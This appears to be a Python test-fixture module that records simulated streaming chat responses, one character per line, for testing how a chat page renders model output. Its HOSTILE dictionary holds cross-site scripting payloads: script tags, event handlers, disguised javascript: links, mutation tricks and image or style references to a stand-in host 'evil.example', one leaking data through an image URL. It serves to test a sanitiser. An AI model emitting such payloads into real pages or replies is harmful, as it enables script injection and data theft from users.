"""What a model says word for word in the page's tests, as recordings that the simulator replays."""

import json
from collections.abc import Iterator
from pathlib import Path
from typing import Final

EVIL: Final = "http://evil.example"
RUN: Final = "window.pwned=1"

HOSTILE: Final = {
    "script": f"<script>{RUN}</script>",
    "image_error": f'<img src=x onerror="{RUN}">',
    "svg": f'<svg onload="{RUN}"><a xlink:href="javascript:{RUN}"><text>x</text></a></svg>',
    "link_javascript": f"[x](javascript:{RUN})",
    "link_hidden": f"[x](java&#10;script:{RUN}) [y](\x01javascript:{RUN}) <javascript:{RUN}>",
    "link_data": f"[x](data:text/html,<script>{RUN}</script>) [y](vbscript:msgbox)",
    "link_reference": f"[x][1] and [y]\n\n[1]: javascript:{RUN}\n[y]: <javascript:{RUN}>",
    "image_leak": f"![what was said]({EVIL}/leak?q=secret) ![x][i]\n\n[i]: {EVIL}/i.png",
    "image_javascript": f"![x](javascript:{RUN}) ![y](data:image/svg+xml,<svg onload={RUN}>)",
    "frame": f'<iframe srcdoc="<script>parent.{RUN}</script>"></iframe><object data="{EVIL}"></object>',
    "form": f'<form action="{EVIL}"><input autofocus onfocus="{RUN}"><button>Log in</button></form>',
    "style": f"<style>@import '{EVIL}/x.css'; body {{ background: url({EVIL}/y) }}</style>",
    "details": f'<details open ontoggle="{RUN}"><summary>x</summary></details>',
    "mutation": f'<math><mtext><table><mglyph><style><!--</style><img title="--><img src=x onerror={RUN}>">',
    "meta": f'<meta http-equiv=refresh content="0;url={EVIL}"><base href="{EVIL}/"><link rel=prefetch href="{EVIL}/p">',
    "code": f"```html\n<img src=x onerror={RUN}>\n```\n\n`<script>{RUN}</script>`\n\n~~~js\n</code><script>{RUN}\n~~~",
    "formula": f"$$\\href{{javascript:{RUN}}}{{x}}$$\n\n\\(\\includegraphics{{{EVIL}/z.png}}\\)\n\\(\\url{{{EVIL}}}\\)",
    "table": f"| a | b |\n|---|---|\n| <img src=x onerror={RUN}> | [x](javascript:{RUN}) |\n",
}

DOCUMENT: Final = """# A heading

Some **bold**, *slanted*, ~~struck~~ and `code` words, and a [link](https://example.org/path "title").
A line &amp; an entity &copy; <b>not bold</b>.

- one
- two
  1. nested
  2. list

- [x] done
- [ ] to do

> A quotation
> of two lines

| left | right |
|:-----|------:|
| a    |     1 |
| b    |     2 |

```python
def fib(n):
    return n if n < 2 else fib(n - 1) + fib(n - 2)  # slow
```

The end: $$e^{i\\pi} + 1 = 0$$ and \\(x^2\\), for $5.

A late [reference][1].

[1]: https://example.org/late
"""


def record(folder: Path) -> None:
    """Write the recordings: a character a line, which is the hardest for what reads them."""
    for case, text in {**{f"hostile_{name}": text for name, text in HOSTILE.items()}, "document": DOCUMENT}.items():
        lines = [*_lines(case, text)]
        head = {
            "case": case,
            "request": {"method": "POST", "path": "/api/chat", "headers": {}, "body": {"model": case}},
            "response": {
                "status": "HTTP/1.1 200 OK",
                "headers": {"Content-Type": "application/x-ndjson", "Transfer-Encoding": "chunked"},
                "t_ms": 0,
            },
        }
        parts = [{"t_ms": n, "chunk": line, "frames": [len(line.encode())]} for n, line in enumerate(lines)]
        parts.append({"t_ms": len(lines), "chunk": "", "frames": [0]})
        ended = {"t_ms": len(lines), "end": "last chunk received"}
        (folder / f"{case}.jsonl").write_text("\n".join(map(json.dumps, (head, *parts, ended))), encoding="utf-8")


def _lines(model: str, text: str) -> Iterator[str]:
    stamp = {"model": model, "created_at": "2026-11-21T07:12:38.2Z"}
    for character in text:
        yield json.dumps({**stamp, "message": {"role": "assistant", "content": character}, "done": False}) + "\n"
    end = {"done": True, "done_reason": "stop", "eval_count": len(text), "prompt_eval_count": 1}
    yield json.dumps({**stamp, "message": {"role": "assistant", "content": ""}, **end}) + "\n"
